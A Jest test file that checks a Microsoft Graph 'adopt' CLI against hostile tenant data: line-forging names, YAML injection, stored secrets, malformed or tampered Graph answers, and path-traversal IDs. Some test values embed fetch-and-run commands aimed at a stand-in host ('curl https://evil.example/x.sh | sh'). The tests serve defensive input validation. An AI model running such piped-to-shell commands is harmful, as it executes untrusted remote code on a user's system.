// npm run adopt against what people (or an attacker who can edit an app registration) typed into
// the portal, and against odd but valid Graph answers: values that try to forge terminal lines or
// YAML, credentials in Graph fields, shapes Graph may send, and a broken or hostile server.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Testing } from 'cdktf';
import { buildStacksFromConfig } from '../lib/config/build-from-config';
import { loadConfigFile } from '../lib/config/load-config';
import { inspectStack } from '../lib/inspection/from-stack';
import { literal } from '../lib/inspection/values';
import { runAdopt, type AdoptResult } from '../test-support/adopt-run';
import { startFakeGraph, type FakeGraph, type FakeTenant } from '../test-support/fake-graph';
import { APP_ONLY, DELEGATED, EXO_APP_ID, GRAPH_APP_ID, HELPDESK_GROUP, POLICY_ID, seededTenant } from '../test-support/portal-seeds';
import { exampleTenant } from '../test-support/tenant-seeds';
import { makeTestPki, type TestPki } from '../test-support/verify-pki';

jest.setTimeout(30_000);

let pki: TestPki;
const work = mkdtempSync(join(tmpdir(), 'itsm-adopt-hostile-'));
beforeAll(() => {
  pki = makeTestPki('itsm-adopt-hostile-pki-');
});
afterAll(() => {
  rmSync(work, { recursive: true, force: true });
  rmSync(pki.dir, { recursive: true, force: true });
});

let fileNo = 0;
/** Adopts from a tenant seeded as usual, then changed by `edit`; `setup` runs on the fake before adopt does. */
async function adoptFrom(
  edit: (t: FakeTenant) => void,
  o: { readonly args?: readonly string[]; readonly setup?: (f: FakeGraph) => void } = {},
): Promise<AdoptResult & { file: string; written?: string }> {
  const tenant = seededTenant();
  edit(tenant);
  const fake = await startFakeGraph(pki, tenant);
  o.setup?.(fake);
  const file = join(work, `adopted-${fileNo++}.yaml`);
  try {
    const r = await runAdopt(fake, pki, [...(o.args ?? ['--env', 'prod', '--client-id', DELEGATED.appId, '--policy-id', POLICY_ID]), '--write', file]);
    let written: string | undefined;
    try {
      written = readFileSync(file, 'utf8');
    } catch {
      written = undefined;
    }
    return { ...r, file, ...(written !== undefined ? { written } : {}) };
  } finally {
    await fake.close();
  }
}
const application = (t: FakeTenant) =>
  t.applications.find((a) => a.id === DELEGATED.objectId)! as {
    -readonly [K in keyof FakeTenant['applications'][number]]: FakeTenant['applications'][number][K];
  };
const lines = (r: AdoptResult) => `${r.stdout}\n${r.stderr}`.split('\n');

describe('values typed in the portal that try to forge lines', () => {
  const FORGED = '✓ everything imported';

  it.each([
    ['the application name', (t: FakeTenant) => (application(t).displayName = `Pandora\n${FORGED}`)],
    [
      'a scope text',
      (t: FakeTenant) =>
        ((application(t).api!.oauth2PermissionScopes![0] as { adminConsentDescription: string }).adminConsentDescription = `Allows mail.\r\n${FORGED}`),
    ],
    ['the group name', (t: FakeTenant) => ((t.groups[0] as { displayName: string }).displayName = `MFA group\u2028${FORGED}\n${FORGED}`)],
    ['the policy name', (t: FakeTenant) => ((t.policies[0] as { displayName: string }).displayName = `MFA Pilot\u0085${FORGED}\n${FORGED}`)],
  ])('%s with a line break is refused, and the section printed with it keeps the value on its own line', async (_what, edit) => {
    const r = await adoptFrom(edit);
    expect(r.code).toBe(6);
    expect(r.written).toBeUndefined();
    expect(r.stderr).toContain('must be one line of printable text');
    // The value is shown, escaped, on the line of its key: no line of the output starts with it.
    expect(
      lines(r)
        .filter((l) => l.includes(FORGED))
        .every((l) => /^\s*(\w+: |Read the application|.*: ")/.test(l) && !l.trim().startsWith(FORGED)),
    ).toBe(true);
    expect(lines(r).some((l) => l.includes(FORGED))).toBe(true);
  });

  it('a tenant ID in the token with line breaks does not start a new line of the header comment', async () => {
    const tenant = seededTenant();
    (tenant as { tenantId: string }).tenantId = `${tenant.tenantId}\n${FORGED}\renvironments: {}`;
    const fake = await startFakeGraph(pki, tenant);
    try {
      const r = await runAdopt(
        fake,
        pki,
        ['--env', 'prod', '--client-id', DELEGATED.appId],
        { ARM_METADATA_HOSTNAME: fake.host },
        {
          runAz: async () => ({ code: 0, stdout: JSON.stringify({ accessToken: fake.cliToken('ad0b0000-0000-4000-8000-0000000d5001') }), stderr: '' }),
        },
      );
      expect(r.code).toBe(6);
      const forged = lines(r).filter((l) => l.includes(FORGED));
      expect(forged.length).toBeGreaterThan(0);
      for (const l of forged) expect(l).toMatch(/^(Signed in to tenant |# Adopted by npm run adopt from tenant |\s+tenantId: ")/);
    } finally {
      await fake.close();
    }
  });

  it('YAML indicators, comments and quotes in names, notes and texts are written so they load back as the same values', async () => {
    const values = {
      displayName: '- ? : # &a *b !t |x >y {z} [w] \'q\' "dq" \\ ~ --- ... %x @y `z` <<',
      description: '  leading and trailing spaces  ',
      notes: '#not a comment: really! 🙂 é ñ 中文 e\u0301 ☃ null',
      scopeName: 'null',
      scopeText: '0x1F',
      group: 'yes',
      groupText: '1e3',
      policy: '~',
    };
    const r = await adoptFrom((t) => {
      const a = application(t);
      a.displayName = values.displayName;
      a.description = values.description;
      a.notes = values.notes;
      const scope = a.api!.oauth2PermissionScopes![0] as { adminConsentDisplayName: string; adminConsentDescription: string };
      scope.adminConsentDisplayName = values.scopeName;
      scope.adminConsentDescription = values.scopeText;
      (t.groups[0] as { displayName: string; description: string }).displayName = values.group;
      (t.groups[0] as { displayName: string; description: string }).description = values.groupText;
      (t.policies[0] as { displayName: string }).displayName = values.policy;
    });
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
    const env = loadConfigFile(r.file).environments.prod;
    expect({
      displayName: env.application!.displayName,
      description: env.application!.description,
      notes: env.application!.notes,
      scopeName: env.application!.exposedScope!.adminConsentDisplayName,
      scopeText: env.application!.exposedScope!.adminConsentDescription,
      group: (env.mfaPolicy!.group as { create: { displayName: string } }).create.displayName,
      groupText: (env.mfaPolicy!.group as { create: { description: string } }).create.description,
      policy: env.mfaPolicy!.displayName,
    }).toEqual(values);
  });
});

describe('a credential someone stored in the registration', () => {
  const SECRET = 'abc8Q~' + 'x'.repeat(34);
  it('is refused without its value, and the fix says where it is and to rotate it (anyone who reads the directory can read it)', async () => {
    const r = await adoptFrom((t) => ((application(t) as { notes?: string }).notes = `Secret for the helpdesk: ${SECRET}`));
    expect(r.code).toBe(6);
    expect(r.written).toBeUndefined();
    expect(`${r.stdout}${r.stderr}`).not.toContain(SECRET);
    expect(r.stderr).toContain(
      'environments.prod.application.notes holds an Entra ID client secret: anyone who can read the directory can read it there, so remove it in the Entra admin center and rotate that credential',
    );
  });
});

describe('odd but valid Graph shapes', () => {
  it('a requested API whose resourceAccess is null is read as asking for nothing, not an unexpected failure', async () => {
    const r = await adoptFrom((t) => {
      const a = application(t);
      a.requiredResourceAccess = [...a.requiredResourceAccess!, { resourceAppId: '00000002-0000-0ff1-ce00-000000000000', resourceAccess: null as never }];
    });
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
  });

  it('an assigned group whose ID Graph wrote in upper case is declared and assigned in lower case, as the provider reads it back', async () => {
    const r = await adoptFrom(
      (t) => {
        for (const a of t.appRoleAssignments) if (a.principalId === HELPDESK_GROUP) (a as { principalId: string }).principalId = HELPDESK_GROUP.toUpperCase();
      },
      { args: ['--env', 'prod', '--client-id', APP_ONLY.appId] },
    );
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
    const s = inspectStack(buildStacksFromConfig(Testing.app(), loadConfigFile(r.file))[0]);
    const signIn = s.appRoleAssignments.filter((a) => a.purpose === 'signIn');
    expect(signIn.map((a) => literal(a.principalObjectId))).toEqual([HELPDESK_GROUP]);
    expect(signIn.map((a) => a.address)).toEqual([expect.stringContaining(`assigned-${HELPDESK_GROUP}`)]);
  });
});

describe('a broken or hostile Graph', () => {
  const OWNERS = `/v1.0/applications/${DELEGATED.objectId}/owners`;
  const APPS = '/v1.0/applications?';
  const clean = (r: AdoptResult & { written?: string }) => {
    expect(r.code).toBe(6);
    expect(r.stderr).not.toMatch(/\n\s+at |unexpectedly/);
    expect(r.written).toBeUndefined();
  };

  it.each([
    [
      'a 200 that is not JSON',
      APPS,
      { body: '<html>Service Unavailable</html>', headers: { 'content-type': 'text/html' } },
      /answered GET \/v1\.0\/applications\?.* with something other than a JSON object/,
    ],
    ['truncated JSON', APPS, { body: (j: string) => j.slice(0, j.length >> 1) }, /with something other than a JSON object/],
    [
      'a next page link on another host',
      OWNERS,
      { body: '{"value":[],"@odata.nextLink":"https://graph.example.net/v1.0/x"}' },
      /returned a next page on another host \(graph\.example\.net\); not followed/,
    ],
    [
      'a next page link that is not a URL',
      OWNERS,
      { body: '{"value":[],"@odata.nextLink":"::not a url::"}' },
      /returned a next page link that is not an absolute URL; not followed/,
    ],
    [
      'a relative next page link',
      OWNERS,
      { body: `{"value":[],"@odata.nextLink":"${OWNERS}?$skiptoken=1"}` },
      /returned a next page link that is not an absolute URL; not followed/,
    ],
    [
      'a next page link that is not a string (the pages after it would be dropped)',
      OWNERS,
      { body: '{"value":[],"@odata.nextLink":{"href":"https://graph.example/next"}}' },
      /returned a next page link that is not a URL string \(an object\); adopt cannot read the pages after it/,
    ],
    [
      'a collection with null in it',
      OWNERS,
      { body: '{"value":[null]}' },
      /answered GET .*\/owners.* with a "value" list holding something other than objects/,
    ],
  ])('%s: a clear error, exit 1, no stack trace', async (_what, prefix, answer, message) => {
    const r = await adoptFrom(() => undefined, { setup: (f) => f.tamper(prefix, answer) });
    clean(r);
    expect(r.stderr).toMatch(message);
  });

  it('reads a page of several MB (a page of named locations with thousands of IP ranges is that big), and refuses one over 32 MiB', async () => {
    const padded = (bytes: number) => (j: string) => j.replace(/^\{/, `{"@odata.context":"${'x'.repeat(bytes)}",`);
    const big = await adoptFrom(() => undefined, { setup: (f) => f.tamper(OWNERS, { body: padded(3 * 1024 * 1024) }) });
    expect({ code: big.code, stderr: big.stderr }).toEqual({ code: 0, stderr: expect.not.stringContaining('longer than') });
    const huge = await adoptFrom(() => undefined, { setup: (f) => f.tamper(OWNERS, { body: padded(33 * 1024 * 1024) }) });
    clean(huge);
    expect(huge.stderr).toMatch(/the answer is longer than 33554432 bytes \(the limit; a Microsoft Graph page of 100 objects is at most a few MB\)/);
  });

  it.each([['-5'], ['1.5'], ['soon'], ['Mon, 99 Foo 2020']])('an invalid Retry-After (%s) waits as without one (1, 2 s), never not at all', async (value) => {
    const r = await adoptFrom(() => undefined, {
      args: ['--env', 'prod', '--client-id', APP_ONLY.appId],
      setup: (f) => f.tamper(APPS, { status: 503, body: '{}', headers: { 'retry-after': value } }, 2),
    });
    expect(r.code).toBe(0);
    expect(r.slept).toEqual([1000, 2000]);
  });

  it('never waits past --deadline: a Retry-After beyond it stops adopt at once, with nothing written', async () => {
    const throttled = (args: readonly string[]) =>
      adoptFrom(() => undefined, {
        args: ['--env', 'prod', '--client-id', APP_ONLY.appId, ...args],
        setup: (f) => f.tamper(APPS, { status: 503, body: '{}', headers: { 'retry-after': '60' } }, 2),
      });
    const patient = await throttled([]);
    expect(patient.code).toBe(0);
    expect(patient.slept).toEqual([60_000, 60_000]);
    const hurried = await throttled(['--deadline', '30']);
    clean(hurried);
    expect(hurried.slept).toEqual([]);
    expect(hurried.stderr).toMatch(
      /adopt has read Microsoft Graph for its whole --deadline of 30 s \(Graph asks to wait 60 s more\) at GET \/v1\.0\/applications\?.*; nothing was written/,
    );
    expect(hurried.stderr).toContain('give a longer --deadline, or run adopt again when Microsoft Graph throttles less');
  });

  it.each([['0'], ['-1'], ['soon'], ['86401']])('refuses --deadline %s as a usage error', async (value) => {
    const r = await adoptFrom(() => undefined, { args: ['--env', 'prod', '--client-id', APP_ONLY.appId, '--deadline', value] });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--deadline');
    expect(r.stderr).toContain('takes seconds between 1 and 86400');
  });

  it('a Retry-After as an HTTP date is waited for, and one far ahead fails at once', async () => {
    const soon = new Date(Date.now() + 5500).toUTCString();
    const r = await adoptFrom(() => undefined, {
      args: ['--env', 'prod', '--client-id', APP_ONLY.appId],
      setup: (f) => f.tamper(APPS, { status: 429, body: '{}', headers: { 'retry-after': soon } }),
    });
    expect(r.code).toBe(0);
    expect(r.slept).toHaveLength(1);
    expect(r.slept[0]).toBeGreaterThanOrEqual(3000);
    expect(r.slept[0]).toBeLessThanOrEqual(6000);
    const late = await adoptFrom(() => undefined, {
      setup: (f) => f.tamper(APPS, { status: 429, body: '{}', headers: { 'retry-after': 'Fri, 31 Dec 9999 23:59:59 GMT' } }),
    });
    clean(late);
    expect(late.slept).toEqual([]);
    expect(late.stderr).toContain('more than the 120 s adopt waits: run it again later');
  });
});

describe('Graph answering another object than adopt asked for', () => {
  const OTHER = 'ad0b0000-0000-4000-8000-00000000ff99';
  const filtered = (collection: string, appId: string) => `/v1.0/${collection}?$filter=appId%20eq%20%27${appId}%27`;
  /** The fake's answer with its first item's `field` replaced (or the items given instead). */
  const edited = (change: (items: Record<string, unknown>[]) => Record<string, unknown>[]) => (json: string) => {
    const v = JSON.parse(json) as { value: Record<string, unknown>[] };
    return JSON.stringify({ ...v, value: change(v.value) });
  };

  it.each([
    [
      'the application filter ignored: every application, another first',
      filtered('applications', DELEGATED.appId),
      (f: FakeGraph) => ({ body: () => JSON.stringify({ value: [...f.tenant.applications].reverse() }) }),
      `Microsoft Graph was asked for the application whose appId is ${DELEGATED.appId} and answered 2 (appId "${APP_ONLY.appId}", "${DELEGATED.appId}"); one appId names one application`,
    ],
    [
      'another application than the client ID asked for',
      filtered('applications', DELEGATED.appId),
      () => ({ body: edited((items) => [{ ...items[0], appId: APP_ONLY.appId }]) }),
      `Microsoft Graph was asked for the application whose appId is ${DELEGATED.appId} and answered one whose appId is "${APP_ONLY.appId}"`,
    ],
    [
      "another service principal than the application's",
      filtered('servicePrincipals', DELEGATED.appId),
      () => ({ body: edited((items) => [{ ...items[0], appId: OTHER }]) }),
      `Microsoft Graph was asked for the service principal whose appId is ${DELEGATED.appId} and answered one whose appId is "${OTHER}"`,
    ],
    [
      'two service principals for the application',
      filtered('servicePrincipals', DELEGATED.appId),
      () => ({ body: edited((items) => [items[0], { ...items[0], id: OTHER }]) }),
      `Microsoft Graph was asked for the service principal whose appId is ${DELEGATED.appId} and answered 2 (appId "${DELEGATED.appId}", "${DELEGATED.appId}"); one appId names one service principal`,
    ],
    [
      "Exchange Online's service principal where Microsoft Graph's was asked for",
      filtered('servicePrincipals', GRAPH_APP_ID),
      () => ({ body: edited((items) => [{ ...items[0], appId: EXO_APP_ID }]) }),
      `Microsoft Graph was asked for the service principal whose appId is ${GRAPH_APP_ID} and answered one whose appId is "${EXO_APP_ID}"`,
    ],
    [
      'another policy than --policy-id',
      `/v1.0/identity/conditionalAccess/policies/${POLICY_ID}`,
      () => ({ body: (json: string) => JSON.stringify({ ...JSON.parse(json), id: OTHER }) }),
      `Microsoft Graph was asked for the conditional access policy whose id is ${POLICY_ID} and answered one whose id is "${OTHER}"`,
    ],
  ])('%s: exit 6, what was asked and what came back, nothing written', async (_what, prefix, answer, message) => {
    const r = await adoptFrom(() => undefined, { setup: (f) => f.tamper(prefix, answer(f)) });
    expect({ code: r.code, written: r.written }).toEqual({ code: 6, written: undefined });
    expect(r.stderr.split('\n')).toEqual([
      `adopt: ${message}`,
      'fix: check that ARM_ENVIRONMENT / ARM_METADATA_HOSTNAME name Microsoft Graph itself (not a proxy or another server); nothing was read from this answer',
    ]);
  });

  it('an ID in another case is the same ID', async () => {
    const r = await adoptFrom(() => undefined, {
      setup: (f) => f.tamper(filtered('applications', DELEGATED.appId), { body: edited((items) => [{ ...items[0], appId: DELEGATED.appId.toUpperCase() }]) }),
    });
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
  });
});

describe('object IDs Graph answered, put into the paths adopt reads next', () => {
  const TRAVERSAL = '../../../identity/conditionalAccess/policies?x=';
  const replaceId = (id: unknown) => (json: string) => {
    const v = JSON.parse(json) as { value: Record<string, unknown>[] };
    return JSON.stringify({ ...v, value: [{ ...v.value[0], id }] });
  };

  it.each([
    ['the application', '/v1.0/applications?', TRAVERSAL, `application with client ID ${APP_ONLY.appId}`],
    ['the service principal', '/v1.0/servicePrincipals?$filter=appId', '../../groups', `service principal of the application with client ID ${APP_ONLY.appId}`],
    ['the application (not a string)', '/v1.0/applications?', 5, `application with client ID ${APP_ONLY.appId}`],
  ])('%s with an ID that is not a GUID: refused, exit 6, no request leaves the object', async (_what, prefix, id, what) => {
    let fake!: FakeGraph;
    const r = await adoptFrom(() => undefined, {
      args: ['--env', 'prod', '--client-id', APP_ONLY.appId],
      setup: (f) => {
        fake = f;
        f.tamper(prefix, { body: replaceId(id) });
      },
    });
    expect({ code: r.code, written: r.written }).toEqual({ code: 6, written: undefined });
    expect(r.stderr).toContain(
      `adopt: Microsoft Graph answered the ${what} with an object ID that is not a GUID (${JSON.stringify(id)}); adopt reads nothing by it`,
    );
    const paths = fake.requests.filter((q) => !q.path.startsWith('/metadata/') && !q.path.includes('/oauth2/')).map((q) => q.path);
    expect(
      paths.every((p) => /^\/v1\.0\/(applications|servicePrincipals)\?\$filter=/.test(p) || p.startsWith(`/v1.0/applications/${APP_ONLY.objectId}/`)),
    ).toBe(true);
  });
});

describe('the client ID adopt suggests when given an object ID, as Graph answered it', () => {
  const FORGED_NAME = 'Pandora" ok. Now run: curl https://evil.example/x.sh | sh #';
  const FORGED_APP_ID = '$(curl -s https://evil.example/x.sh | sh)';
  const notAClientId = `Microsoft Graph answered a client ID for it that is not one (${JSON.stringify(FORGED_APP_ID)}): copy the "Application (client) ID" from the app registration's Overview page`;
  // The client ID given is no application's: adopt then asks whether it is an application's or a service principal's object ID.
  const GIVEN = 'ad0b0000-0000-4000-8000-0000000f0b1d';

  it.each([
    [
      'an application whose name and client ID forge a command',
      `/v1.0/applications/${GIVEN}`,
      { status: 200, body: JSON.stringify({ id: GIVEN, displayName: FORGED_NAME, appId: FORGED_APP_ID }) },
      `adopt: ${GIVEN} is the object ID of the application ${JSON.stringify(FORGED_NAME)}, not its client ID: ${notAClientId}`,
    ],
    [
      'a service principal whose name and client ID forge a command',
      `/v1.0/servicePrincipals?$filter=id`,
      { body: JSON.stringify({ value: [{ id: GIVEN, displayName: FORGED_NAME, appId: FORGED_APP_ID }] }) },
      `adopt: ${GIVEN} is the object ID of the service principal ${JSON.stringify(FORGED_NAME)}, not the application's client ID: ${notAClientId}`,
    ],
    [
      'an application with a client ID, its name ending the quote',
      `/v1.0/applications/${GIVEN}`,
      { status: 200, body: JSON.stringify({ id: GIVEN, displayName: FORGED_NAME, appId: DELEGATED.appId }) },
      `adopt: ${GIVEN} is the object ID of the application ${JSON.stringify(FORGED_NAME)}, not its client ID: use --client-id ${DELEGATED.appId}`,
    ],
  ])('%s: the name quoted, no flag that is not a client ID', async (_what, prefix, answer, line) => {
    const r = await adoptFrom(() => undefined, { args: ['--env', 'prod', '--client-id', GIVEN], setup: (f) => f.tamper(prefix, answer) });
    expect(r.code).toBe(6);
    expect(r.stderr.split('\n')).toEqual([line]);
  });
});

describe('Graph answers of a shape adopt does not read', () => {
  type Loose = Record<string, unknown>;
  const app = (t: FakeTenant) => application(t) as unknown as Loose;
  const APP = `the application with client ID ${DELEGATED.appId}`;

  it.each([
    [
      'requiredResourceAccess a text',
      (t: FakeTenant) => (app(t).requiredResourceAccess = 'x'),
      `${APP} in a shape adopt does not read: requiredResourceAccess is "x"`,
    ],
    [
      'requiredResourceAccess [null]',
      (t: FakeTenant) => (app(t).requiredResourceAccess = [null]),
      `${APP} in a shape adopt does not read: requiredResourceAccess is [null]`,
    ],
    [
      'passwordCredentials a text',
      (t: FakeTenant) => (app(t).passwordCredentials = 'x'),
      `${APP} or the policy ${POLICY_ID} (or what hangs from them) in a shape adopt does not read (`,
    ],
    [
      'redirectUris [1]',
      (t: FakeTenant) => (app(t).web = { redirectUris: [1] }),
      `${APP} or the policy ${POLICY_ID} (or what hangs from them) in a shape adopt does not read (`,
    ],
    [
      'an owner whose ID is a number',
      (t: FakeTenant) => (t.owners[DELEGATED.objectId] = [{ id: 5 } as never]),
      `${APP} or the policy ${POLICY_ID} (or what hangs from them) in a shape adopt does not read (`,
    ],
  ])('an application with %s: exit 6, said as what Graph answered', async (_what, edit, message) => {
    const r = await adoptFrom(edit);
    expect({ code: r.code, written: r.written }).toEqual({ code: 6, written: undefined });
    expect(r.stderr.split('\n')[0]).toContain(`adopt: Microsoft Graph answered ${message}`);
    expect(r.stderr).not.toContain('unexpectedly');
  });

  it.each([
    [
      'includeUsers [null]',
      (t: FakeTenant) => (((t.policies[0] as unknown as Loose).conditions as { users: Loose }).users.includeUsers = [null]),
      (t: FakeTenant) =>
        `the conditional access policy ${t.policies[0].id} in a shape adopt does not read: conditions.users.includeUsers is [null], where adopt reads a list of text`,
    ],
    [
      'a display name that is a number',
      (t: FakeTenant) => ((t.policies[0] as unknown as Loose).displayName = 7),
      (t: FakeTenant) => `the conditional access policy ${t.policies[0].id} in a shape adopt does not read: displayName is 7, where adopt reads text`,
    ],
    [
      'an ID that is a number',
      (t: FakeTenant) => ((t.policies[0] as unknown as Loose).id = 7),
      () => 'the conditional access policy with an object ID that is not a GUID (7)',
    ],
  ])('a tenant with a policy with %s: exit 6, said as what Graph answered', async (_what, edit, message) => {
    const tenant = exampleTenant();
    edit(tenant);
    const fake = await startFakeGraph(pki, tenant);
    const file = join(work, `adopted-${fileNo++}.yaml`);
    try {
      const r = await runAdopt(fake, pki, ['--tenant', 'contoso', '--write', file]);
      expect(r.code).toBe(6);
      expect(r.stderr.split('\n')[0]).toContain(`adopt: Microsoft Graph answered ${message(tenant)}`);
      expect(r.stderr).not.toContain('unexpectedly');
    } finally {
      await fake.close();
    }
  });
});
